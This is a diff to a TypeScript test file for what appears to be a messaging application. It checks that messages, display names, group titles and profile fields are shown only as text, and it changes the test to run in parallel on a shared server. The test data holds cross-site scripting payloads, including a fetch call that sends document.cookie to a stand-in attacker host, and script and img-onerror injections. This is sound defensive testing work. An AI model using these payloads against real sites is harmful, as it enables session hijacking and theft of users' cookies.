@@ -3,6 +3,8 @@ import { Person, person, request } from '../support/people.ts';
 import type { TestServer } from '../support/server.ts';
 import { expect, log, row, test } from './people.ts';
 
+test.use({ sharesServer: true });
+
 const calls = ['xss()', 'alert(1)', "fetch('https://evil.example/'+document.cookie)"];
 const shapes: ((call: string) => string)[] = [
   (call) => `<script>${call}</script>`,
@@ -124,10 +126,9 @@ test('what people write is never more than text', async ({ signUp, server }) => 
   const anas = await userId(mallory, ana.username);
 
   const chat = await mallory.direct(new Person(server.url, { id: anas } as Person['user'], ''));
-  for (const [i, text] of payloads.entries()) await mallory.say(chat, `${text} #${i}`);
+  await Promise.all(payloads.map((text, i) => mallory.say(chat, `${text} #${i}`)));
   const names = payloads.filter(({ length }) => length <= 60).slice(0, 12);
-  const groups: { id: string; name: string }[] = [];
-  for (const [i, name] of names.entries()) {
+  const greet = async (name: string, i: number) => {
     const body = { username: `evil${i}`, password: 'correct horse battery', displayName: name };
     await request(server.url, 'POST', '/auth/register', { body });
     const token = (await request(server.url, 'POST', '/auth/token', {
@@ -138,8 +139,9 @@ test('what people write is never more than text', async ({ signUp, server }) => 
     const group = await evil.group(name, [{ id: anas } as Person]);
     await evil.done('PATCH', `/conversations/${group.id}`, { title: `${name} again`.slice(0, 60) });
     await evil.say(group, name);
-    groups.push({ id: group.id, name });
-  }
+    return { id: group.id, name };
+  };
+  const groups = await Promise.all(names.map(greet));
   await mallory.done('PATCH', '/users/me', {
     displayName: 'Mallory <img src=x onerror=xss()>',
     about: '"><script>xss()</script>',
